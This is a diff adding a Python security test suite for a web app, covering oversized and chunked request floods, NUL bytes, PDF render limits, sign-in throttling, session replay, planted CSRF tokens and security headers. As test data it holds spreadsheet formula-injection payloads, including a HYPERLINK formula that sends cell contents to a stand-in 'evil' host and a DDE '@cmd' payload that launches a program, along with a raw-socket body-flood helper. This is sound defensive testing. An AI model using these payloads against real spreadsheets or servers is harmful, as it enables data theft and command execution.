@@ -1,0 +1,466 @@
+"""The web app probed as an attacker would: hostile bodies and parameters, PDF floods, data that turns against its
+reader, guessed passwords, replayed cookies, planted CSRF tokens, and the headers every answer carries.
+
+Each test names the weakness it closes; the answers (status, message) are those of webapp/limits.py,
+render_slots.py, throttle.py, sessions.py, security.py and readmodel/spreadsheet.py.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import contextlib
+import csv
+import http.client
+import io
+import os
+import re
+import socket
+import subprocess
+import sys
+import threading
+import time
+from collections.abc import AsyncIterator, Iterator
+from dataclasses import replace
+from pathlib import Path
+from typing import Any
+from urllib.parse import quote
+
+import asyncpg
+import httpx
+import psutil
+import pytest
+from icalendar import Calendar
+from structlog.testing import capture_logs
+
+from readmodel.records import RecordReader
+from readmodel.spreadsheet import safe_cell
+from tests.readmodel.rows import DRAMMEN, NOW, insert_meeting, insert_period
+from tests.webapp.conftest import SECRET, _no_temporal
+from tests.webapp.test_pages import _csrf, sign_in
+from webapp.app import WebApp, create_app
+from webapp.feeds import feed_token, owner_feed_address
+from webapp.limits import SIGN_IN_BYTES
+from webapp.security import CONTENT_SECURITY_POLICY, content_disposition
+from webapp.settings import WebSettings
+from webapp.users import UserDirectory
+
+_USERS = UserDirectory.development()
+MILESTONE = f"/periods/{DRAMMEN.workflow_id}/milestone"
+
+
+def _web(reader: RecordReader, data_dir: Path, **settings: Any) -> WebApp:
+    return WebApp(
+        reader=reader,
+        temporal=_no_temporal,
+        users=_USERS,
+        settings=WebSettings(_env_file=None, secret=SECRET, **settings),
+        secret=SECRET,
+        clock=lambda: NOW,
+        data_dir=data_dir,
+    )
+
+
+@contextlib.asynccontextmanager
+async def _client(web: WebApp, address: str = "127.0.0.1") -> AsyncIterator[httpx.AsyncClient]:
+    transport = httpx.ASGITransport(app=create_app(web), client=(address, 4711))
+    async with httpx.AsyncClient(transport=transport, base_url="http://testserver") as client:
+        yield client
+
+
+# --- 1. blocking without signing in ---------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("path", "size", "message"),
+    [
+        ("/login", SIGN_IN_BYTES + 1, "a sign-in form may carry at most 4 KiB"),
+        (MILESTONE, 256 * 1024 + 1, "a form may carry at most 256 KiB"),
+    ],
+    ids=["sign-in", "any other form"],
+)
+async def test_a_body_over_its_routes_bound_is_refused_413_by_its_length_and_while_it_streams(
+    http: httpx.AsyncClient, path: str, size: int, message: str
+) -> None:
+    form = {"content-type": "application/x-www-form-urlencoded"}
+
+    declared = await http.post(path, content=b"a" * size, headers=form)
+
+    async def chunks() -> AsyncIterator[bytes]:
+        for _ in range(size // 1024 + 1):
+            yield b"a" * 1024
+
+    streamed = await http.post(path, content=chunks(), headers=form)  # chunked: no Content-Length
+
+    assert (declared.status_code, streamed.status_code) == (413, 413)
+    assert message in declared.text and message in streamed.text
+
+
+async def test_a_form_with_too_many_fields_is_refused(http: httpx.AsyncClient) -> None:
+    await sign_in(http, "a.hansen", "adviser-dev")
+
+    answer = await http.post(
+        MILESTONE,
+        content="&".join(f"f{i}=1" for i in range(1001)).encode(),
+        headers={"content-type": "application/x-www-form-urlencoded"},
+    )
+
+    assert answer.status_code == 413 and "too many fields: at most 1000" in answer.text
+
+
+@pytest.mark.parametrize(
+    ("method", "path", "data", "message"),
+    [
+        ("GET", "/cohorts/2027?county=3%003", None, "county: must not contain a NUL character (a query parameter)"),
+        ("GET", "/search?q=Dr%00", None, "q: must not contain a NUL character (a query parameter)"),
+        ("GET", "/tasks?adviser=%00", None, "adviser: must not contain a NUL character (a query parameter)"),
+        ("GET", "/cohorts/20%0027", None, "the address: must not contain a NUL character"),
+        ("POST", "/login", {"username": "a.hansen\x00", "password": "x"}, "username: must not contain a NUL"),
+        ("POST", MILESTONE, {"milestone": "anchoring_done", "note": "a\x00b"}, "note: must not contain a NUL"),
+    ],
+    ids=["cohort filter", "search", "tasks", "address", "sign-in field", "period form field"],
+)
+async def test_a_nul_anywhere_in_a_request_is_refused_400_naming_where(
+    http: httpx.AsyncClient, method: str, path: str, data: dict[str, str] | None, message: str
+) -> None:
+    await sign_in(http, "coordinator", "coordinator-dev")
+    page = await http.get("/tasks")
+    form = {**data, "csrftoken": _csrf(page)} if data else None
+
+    answer = await http.request(method, path, data=form)
+
+    assert answer.status_code == 400 and message in answer.text
+
+
+async def test_a_form_that_is_not_utf8_is_refused_400(http: httpx.AsyncClient) -> None:
+    answer = await http.post(
+        "/login", content=b"username=\xff\xfe&password=x", headers={"content-type": "application/x-www-form-urlencoded"}
+    )
+
+    assert answer.status_code == 400 and "not UTF-8" in answer.text
+
+
+@contextlib.contextmanager
+def _server_process(database_url: str, data_dir: Path) -> Iterator[tuple[str, int]]:
+    """`python -m webapp` (uvicorn, as `make web` runs it) on a free port, stopped after the block."""
+    env = {
+        **os.environ,
+        "DATABASE_URL": database_url,
+        "GUIDANCE_DATA_DIR": str(data_dir),
+        "GUIDANCE_WEB_PORT": "0",
+        "GUIDANCE_WEB_SECRET": SECRET,
+    }
+    process = subprocess.Popen(
+        [sys.executable, "-m", "webapp"], env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True
+    )
+    try:
+        assert process.stdout is not None
+        for line in process.stdout:
+            found = re.search(r"Web app: http://localhost:(\d+)", line)
+            if found:
+                yield "127.0.0.1", int(found.group(1))
+                break
+        else:
+            pytest.fail(f"the web app did not start (exit {process.wait()})")
+    finally:
+        process.terminate()
+        process.wait(timeout=10)
+
+
+def _hostile_post(host: str, port: int, chunked: bool, statuses: list[int]) -> None:
+    """One sign-in post of 16 MB (declared, or chunked without a length), sent as fast as the server takes it."""
+    piece = b"a" * 65536
+    with socket.create_connection((host, port), timeout=10) as sock:
+        length = b"transfer-encoding: chunked" if chunked else b"content-length: %d" % (256 * len(piece))
+        sock.sendall(
+            b"POST /login HTTP/1.1\r\nhost: x\r\ncookie: csrftoken=planted\r\n"
+            b"content-type: application/x-www-form-urlencoded\r\n" + length + b"\r\n\r\n"
+        )
+        with contextlib.suppress(OSError):  # the server stops reading once it has refused
+            for _ in range(256):
+                sock.sendall(b"10000\r\n" + piece + b"\r\n" if chunked else piece)
+            if chunked:
+                sock.sendall(b"0\r\n\r\n")
+        with contextlib.suppress(OSError):
+            answer = sock.recv(4096)
+            if answer.startswith(b"HTTP/1.1 "):
+                statuses.append(int(answer[9:12]))
+
+
+async def test_healthz_answers_within_100_ms_while_hostile_bodies_are_sent_to_the_sign_in(
+    database_url: str, pool: asyncpg.Pool, tmp_path: Path
+) -> None:
+    with _server_process(database_url, tmp_path / "var") as (host, port):
+        statuses: list[int] = []
+        senders = [
+            threading.Thread(target=_hostile_post, args=(host, port, chunked, statuses))
+            for _ in range(3)
+            for chunked in (False, True)
+        ]
+        latencies: list[float] = []
+
+        def probe() -> None:
+            while any(s.is_alive() for s in senders) or len(latencies) < 10:
+                connection = http.client.HTTPConnection(host, port, timeout=5)
+                began = time.perf_counter()
+                connection.request("GET", "/healthz")
+                answer = connection.getresponse()
+                assert answer.read() == b"ok"
+                latencies.append(time.perf_counter() - began)
+                connection.close()
+
+        for sender in senders:
+            sender.start()
+        await asyncio.to_thread(probe)
+        for sender in senders:
+            await asyncio.to_thread(sender.join)
+
+    assert len(latencies) >= 10 and max(latencies) < 0.1, f"slowest /healthz: {max(latencies) * 1000:.0f} ms"
+    # A refused sender often loses the answer to the connection's reset; any answer it read is the refusal.
+    assert set(statuses) <= {413}, statuses
+
+
+# --- 2. PDF work bounded --------------------------------------------------------------------------
+
+
+async def _chromiums_while(work: asyncio.Future[Any]) -> int:
+    """The most Chromium browsers (children of this process) alive at once while `work` runs."""
+    most = 0
+    me = psutil.Process()
+    while not work.done():
+        alive = 0
+        for child in me.children(recursive=False):
+            with contextlib.suppress(psutil.NoSuchProcess):
+                alive += "chrom" in child.name()
+        most = max(most, alive)
+        await asyncio.sleep(0.01)
+    return most
+
+
+@pytest.mark.parametrize("wait_seconds", [0.0, 60.0], ids=["no wait: the rest get 503", "waiting: all served"])
+async def test_at_most_the_configured_number_of_chromium_renders_run_at_once(
+    reader: RecordReader, tmp_path: Path, wait_seconds: float
+) -> None:
+    web = _web(reader, tmp_path / "web", pdf_renders_at_once=2, pdf_wait_seconds=wait_seconds)
+    async with _client(web) as client:
+        await sign_in(client, "coordinator", "coordinator-dev")
+        requests = asyncio.gather(*(client.get("/cohorts/2027/report.pdf") for _ in range(5)))
+        most = await _chromiums_while(requests)
+        answers = await requests
+
+    served = [a for a in answers if a.status_code == 200]
+    refused = [a for a in answers if a.status_code == 503]
+    assert 1 <= most <= 2, f"{most} Chromiums at once"
+    assert all(a.content.startswith(b"%PDF-") for a in served)
+    assert all(a.headers["retry-after"] == "10" and "already making 2 PDF files" in a.text for a in refused)
+    if wait_seconds:
+        assert len(served) == 5
+    else:
+        assert len(served) == 2 and len(refused) == 3
+
+
+# --- 3. data that turns against its reader --------------------------------------------------------
+
+
+@pytest.mark.parametrize("typed", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", '=HYPERLINK("http://evil")'])
+def test_a_text_a_spreadsheet_would_read_as_a_formula_is_made_plain_text(typed: str) -> None:
+    assert safe_cell(typed) == "'" + typed
+    assert safe_cell("Drammen") == "Drammen" and safe_cell(-3) == -3
+
+
+async def test_typed_text_reaches_the_csv_report_as_text_not_as_a_formula(
+    http: httpx.AsyncClient, pool: asyncpg.Pool
+) -> None:
+    await pool.execute(
+        "UPDATE periods SET goals = $1, end_reason = $2 WHERE workflow_id = $3",
+        ['=HYPERLINK("http://evil.example/?"&A1,"Klikk")', "fine"],
+        "@cmd|' /C calc'!A0",
+        DRAMMEN.workflow_id,
+    )
+    await sign_in(http, "coordinator", "coordinator-dev")
+
+    sheet = await http.get("/cohorts/2027/report.csv")
+
+    row = next(r for r in csv.DictReader(io.StringIO(sheet.text)) if r["owner_id"] == DRAMMEN.owner_id)
+    assert row["goals"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Klikk"); fine'
+    assert row["end_reason"] == "'@cmd|' /C calc'!A0"
+    assert row["meetings_held"] == "2"  # numbers stay numbers
+
+
+async def test_a_cohort_name_reaches_the_download_file_name_quoted_and_encoded(
+    http: httpx.AsyncClient, pool: asyncpg.Pool
+) -> None:
+    cohort = 'Vår "27"; x\\y'
+    await insert_period(pool, replace(DRAMMEN, cohort=cohort))
+    await sign_in(http, "coordinator", "coordinator-dev")
+
+    sheet = await http.get(f"/cohorts/{quote(cohort, safe='')}/report.csv")
+
+    assert sheet.status_code == 200
+    assert sheet.headers["content-disposition"] == (
+        'attachment; filename="cohort-V_r__27___x_y-progress.csv"; '
+        "filename*=UTF-8''cohort-V%C3%A5r%20%2227%22%3B%20x%5Cy-progress.csv"
+    )
+    assert content_disposition("inline", "a\r\nb.pdf") == "inline; filename=\"a__b.pdf\"; filename*=UTF-8''a%0D%0Ab.pdf"
+
+
+async def test_an_owners_feed_given_to_an_adviser_holds_only_the_periods_that_adviser_may_open(
+    http: httpx.AsyncClient, pool: asyncpg.Pool
+) -> None:
+    # The same owner has a period in another cohort, followed by another adviser.
+    other = replace(DRAMMEN, cohort="2025", advisers=["c.berg"])
+    await insert_period(pool, other)
+    await insert_meeting(pool, other, "m1", "kickoff", DRAMMEN.start_date, "c.berg's confidential kick-off")
+    await sign_in(http, "a.hansen", "adviser-dev")
+    period_page = await http.get(f"/periods/{DRAMMEN.workflow_id}")
+    link = re.search(r'id="owner-feed" href="([^"]+)"', period_page.text)
+    assert link and link.group(1).replace("&amp;", "&") == owner_feed_address(SECRET, "3301", "a.hansen")
+    http.cookies.clear()
+
+    advisers = await http.get(link.group(1).replace("&amp;", "&"))
+    coordinators = await http.get(owner_feed_address(SECRET, "3301", "coordinator"))
+    unscoped = await http.get(f"/feeds/owners/3301.ics?token={feed_token(SECRET, 'owner', '3301')}")
+    other_viewer = await http.get(link.group(1).replace("&amp;", "&").replace("for=a.hansen", "for=c.berg"))
+
+    def summaries(feed: httpx.Response) -> list[str]:
+        return sorted(str(e["SUMMARY"]) for e in Calendar.from_ical(feed.content).walk("VEVENT"))
+
+    assert "Drammen: Kick-off" in summaries(advisers)
+    assert not any("confidential" in s for s in summaries(advisers))
+    assert "Drammen: c.berg's confidential kick-off" in summaries(coordinators)
+    assert (unscoped.status_code, other_viewer.status_code) == (404, 404)
+
+
+# --- 4. sign-in and sessions ----------------------------------------------------------------------
+
+
+async def _try(client: httpx.AsyncClient, name: str, password: str) -> httpx.Response:
+    page = await client.get("/login")
+    return await client.post("/login", data={"username": name, "password": password, "csrftoken": _csrf(page)})
+
+
+async def test_failed_sign_ins_are_limited_per_user_name_with_a_delay_and_a_log_line_without_the_password(
+    reader: RecordReader, tmp_path: Path
+) -> None:
+    web = _web(reader, tmp_path / "web", sign_in_failure_delay=0.2)
+    async with _client(web) as client:
+        with capture_logs() as logs:
+            began = time.perf_counter()
+            failures = [await _try(client, "a.hansen", f"guess-{i}") for i in range(5)]
+            took = time.perf_counter() - began
+            locked = await _try(client, "a.hansen", "adviser-dev")  # even the right password, now
+        other = await _try(client, "b.olsen", "adviser-dev")
+
+    assert [f.status_code for f in failures] == [401] * 5 and took >= 5 * 0.2
+    assert locked.status_code == 429 and "Too many failed sign-ins" in locked.text
+    assert 0 < int(locked.headers["retry-after"]) <= 15 * 60
+    assert other.status_code == 303, "another user name is not locked out by a.hansen's failures"
+    failed = [entry for entry in logs if entry["event"] == "sign_in_failed"]
+    assert [entry["failures_in_window"] for entry in failed] == [1, 2, 3, 4, 5]
+    assert failed[0]["user"] == "a.hansen" and failed[0]["client"] == "127.0.0.1"
+    assert not any("guess-" in str(value) for entry in logs for value in entry.values())
+    assert any(entry["event"] == "sign_in_throttled" for entry in logs)
+
+
+async def test_failed_sign_ins_are_limited_per_client_address_across_user_names(
+    reader: RecordReader, tmp_path: Path
+) -> None:
+    web = _web(reader, tmp_path / "web", sign_in_failure_delay=0, sign_in_failures_per_address=3)
+    async with _client(web, "10.0.0.7") as client:
+        tries = [await _try(client, name, "wrong-password") for name in ("x1", "x2", "x3", "a.hansen")]
+    async with _client(web, "10.0.0.8") as elsewhere:
+        other_address = await _try(elsewhere, "a.hansen", "adviser-dev")
+
+    assert [t.status_code for t in tries] == [401, 401, 401, 429]
+    assert other_address.status_code == 303
+
+
+async def test_a_session_cookie_stops_working_after_signing_out_also_a_copy_and_after_a_restart(
+    reader: RecordReader, tmp_path: Path
+) -> None:
+    web = _web(reader, tmp_path / "web")
+    async with _client(web) as browser, _client(web) as thief:
+        await sign_in(browser, "a.hansen", "adviser-dev")
+        thief.cookies.update(browser.cookies)  # a copy of the cookie, taken while signed in
+        assert (await thief.get("/tasks")).status_code == 200
+        page = await browser.get("/tasks")
+        signed_out = await browser.post("/logout", data={"csrftoken": _csrf(page)})
+
+        replayed = await thief.get("/tasks")
+    async with _client(_web(reader, tmp_path / "web")) as after_restart:
+        after_restart.cookies.update(thief.cookies)
+        replayed_later = await after_restart.get("/tasks")
+        await sign_in(after_restart, "a.hansen", "adviser-dev")
+        signed_in_again = await after_restart.get("/tasks")
+
+    assert signed_out.status_code == 303
+    assert (replayed.status_code, replayed.headers["location"]) == (303, "/login?next=%2Ftasks")
+    assert replayed_later.status_code == 303
+    assert signed_in_again.status_code == 200
+
+
+async def test_a_planted_csrf_token_from_another_browser_does_not_pass(reader: RecordReader, tmp_path: Path) -> None:
+    web = _web(reader, tmp_path / "web")
+    async with _client(web) as attacker, _client(web) as victim:
+        login_page = await attacker.get("/login")  # a token we signed, but of the attacker's browser
+        planted = _csrf(login_page)
+        await sign_in(victim, "a.hansen", "adviser-dev")
+        own = _csrf(await victim.get("/tasks"))
+        victim.cookies.set("csrftoken", planted)
+
+        forged = await victim.post("/logout", data={"csrftoken": planted})
+        victim.cookies.set("csrftoken", own)
+        genuine = await victim.post("/logout", data={"csrftoken": own})
+
+    assert planted != own
+    assert forged.status_code == 403 and "does not belong to this session" in forged.text
+    assert genuine.status_code == 303
+
+
+async def test_the_next_page_replaces_a_planted_token_cookie_with_the_sessions(
+    http: httpx.AsyncClient,
+) -> None:
+    await sign_in(http, "a.hansen", "adviser-dev")
+    own = _csrf(await http.get("/tasks"))
+    http.cookies.set("csrftoken", "planted")
+
+    page = await http.get("/tasks")
+
+    assert _csrf(page) == own and f"csrftoken={own}" in page.headers["set-cookie"]
+    assert "HttpOnly" in page.headers["set-cookie"]
+
+
+@pytest.mark.parametrize(
+    "path",
+    ["/login", "/tasks", "/cohorts/nope", "/static/style.css", "/healthz", "/feeds/advisers/x.ics"],
+)
+async def test_every_answer_carries_the_security_headers(http: httpx.AsyncClient, path: str) -> None:
+    await sign_in(http, "coordinator", "coordinator-dev")
+
+    answer = await http.get(path)
+    too_large = await http.post("/login", content=b"a" * 10_000)
+
+    for headers in (answer.headers, too_large.headers):
+        assert headers["content-security-policy"] == CONTENT_SECURITY_POLICY
+        assert "frame-ancestors 'none'" in headers["content-security-policy"]
+        assert headers["x-content-type-options"] == "nosniff"
+        assert headers["referrer-policy"] == "same-origin"
+        assert "strict-transport-security" not in headers  # plain http://localhost: no HSTS
+
+
+async def test_hsts_is_sent_when_cookies_are_secure(reader: RecordReader, tmp_path: Path) -> None:
+    async with _client(_web(reader, tmp_path / "web", secure_cookies=True)) as client:
+        answer = await client.get("/login")
+
+    assert answer.headers["strict-transport-security"] == "max-age=31536000; includeSubDomains"
+
+
+def test_no_template_has_inline_script_or_style_so_the_policy_can_forbid_them() -> None:
+    folders = [Path("webapp/templates"), Path("readmodel/templates")]
+    pages = {p: p.read_text(encoding="utf-8") for folder in folders for p in folder.glob("*.html")}
+    # The PDF's own file (report_file.html) is never served: Chromium prints it from a temporary folder.
+    served = {p: text for p, text in pages.items() if p.name != "report_file.html"}
+
+    assert served, "the templates were found"
+    for path, text in served.items():
+        assert not re.search(r"<script(?![^>]*\bsrc=)", text), f"{path}: inline script"
+        assert not re.search(r"<style|\sstyle=|\son[a-z]+=", text), f"{path}: inline style or handler"
